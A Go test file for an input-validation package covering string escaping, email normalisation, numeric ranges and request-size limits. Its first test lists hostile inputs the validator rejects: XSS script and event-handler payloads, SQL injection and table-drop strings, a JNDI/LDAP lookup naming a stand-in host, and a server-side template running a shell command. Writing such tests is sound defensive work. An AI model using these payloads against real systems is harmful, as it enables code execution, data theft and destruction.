// Copyright 2026 ClimaBill Ltd.
// SPDX-License-Identifier: AGPL-3.0

package validation

import (
	"errors"
	"strings"
	"testing"
)

func TestStringRejectsSuspiciousInput(t *testing.T) {
	v := NewValidator()

	tests := []struct {
		name  string
		value string
	}{
		{name: "ScriptTag", value: `hello <script>alert(1)</script>`},
		{name: "ScriptTagWithAttrs", value: `<SCRIPT src="x">`},
		{name: "JavascriptURL", value: `click <a href="javascript:alert(1)">here</a>`},
		{name: "EventHandler", value: `<img src=x onerror = alert(1)>`},
		{name: "UnionSelect", value: `name' UNION  SELECT password FROM users--`},
		{name: "InsertInto", value: `x; insert into users values (1)`},
		{name: "DeleteFrom", value: `x; DELETE FROM emissions`},
		{name: "DropTable", value: `x'; drop table tenants;--`},
		{name: "TemplateExpansion", value: `${jndi:ldap://evil}`},
		{name: "ServerSideTemplate", value: `<% system("id") %>`},
	}

	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if _, err := v.String(test.value); !errors.Is(err, ErrSuspiciousInput) {
				t.Fatalf("expected ErrSuspiciousInput, got %v", err)
			}
		})
	}
}

func TestStringEscapesAndTrims(t *testing.T) {
	v := NewValidator()

	got, err := v.String(`  Tom & Jerry's "5 < 6" shop  `)
	if err != nil {
		t.Fatal(err)
	}

	want := `Tom &amp; Jerry&#x27;s &quot;5 &lt; 6&quot; shop`
	if got != want {
		t.Fatalf("got %q, want %q", got, want)
	}
}

// Escaping is not idempotent: re-applying String to its own output
// double-escapes the ampersands. The contract is that already-escaped input
// is still accepted, and the escape runs exactly once, at the boundary.
func TestStringAcceptsItsOwnOutput(t *testing.T) {
	v := NewValidator()

	first, err := v.String(`Tom & Jerry's "5 < 6" shop`)
	if err != nil {
		t.Fatal(err)
	}

	second, err := v.String(first)
	if err != nil {
		t.Fatalf("escaped output rejected: %v", err)
	}

	want := `Tom &amp;amp; Jerry&amp;#x27;s &amp;quot;5 &amp;lt; 6&amp;quot; shop`
	if second != want {
		t.Fatalf("got %q, want %q", second, want)
	}
}

func TestStringLengthCap(t *testing.T) {
	v := NewValidator()

	if _, err := v.String(strings.Repeat("a", MaxStringLength)); err != nil {
		t.Fatalf("value at the cap should pass, got %v", err)
	}
	if _, err := v.String(strings.Repeat("a", MaxStringLength+1)); !errors.Is(err, ErrStringTooLong) {
		t.Fatalf("expected ErrStringTooLong, got %v", err)
	}
}

func TestEmail(t *testing.T) {
	v := NewValidator()

	got, err := v.Email("  Admin@Acme.Example ")
	if err != nil {
		t.Fatal(err)
	}
	if got != "admin@acme.example" {
		t.Fatalf("expected normalized address, got %q", got)
	}

	for _, bad := range []string{"", "   ", "not-an-email", "a@", "@b.example", "a b@c.example"} {
		if _, err := v.Email(bad); !errors.Is(err, ErrInvalidEmail) {
			t.Fatalf("email %q: expected ErrInvalidEmail, got %v", bad, err)
		}
	}
}

func TestNumeric(t *testing.T) {
	v := NewValidator()

	tests := []struct {
		name    string
		value   interface{}
		min     float64
		max     float64
		want    float64
		wantErr error
	}{
		{name: "Float", value: 42.5, min: 0, max: 100, want: 42.5},
		{name: "Int", value: 7, min: 0, max: 100, want: 7},
		{name: "NumericString", value: " 12.25 ", min: 0, max: 100, want: 12.25},
		{name: "AtLowerBound", value: 0.0, min: 0, max: 100, want: 0},
		{name: "AtUpperBound", value: 100.0, min: 0, max: 100, want: 100},
		{name: "BelowRange", value: -1.0, min: 0, max: 100, wantErr: ErrOutOfRange},
		{name: "AboveRange", value: 100.1, min: 0, max: 100, wantErr: ErrOutOfRange},
		{name: "Garbage", value: "twelve", min: 0, max: 100, wantErr: ErrNotANumber},
		{name: "Nil", value: nil, min: 0, max: 100, wantErr: ErrNotANumber},
	}

	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			got, err := v.Numeric(test.value, test.min, test.max)
			if test.wantErr != nil {
				if !errors.Is(err, test.wantErr) {
					t.Fatalf("expected %v, got %v", test.wantErr, err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got != test.want {
				t.Fatalf("got %g, want %g", got, test.want)
			}
		})
	}
}

func TestRequestSize(t *testing.T) {
	v := NewValidator()

	if err := v.RequestSize(1024, 10*1024*1024); err != nil {
		t.Fatalf("small request should pass, got %v", err)
	}
	if err := v.RequestSize(10*1024*1024, 10*1024*1024); err != nil {
		t.Fatalf("request at the limit should pass, got %v", err)
	}
	if err := v.RequestSize(10*1024*1024+1, 10*1024*1024); !errors.Is(err, ErrRequestTooLarge) {
		t.Fatalf("expected ErrRequestTooLarge, got %v", err)
	}
}
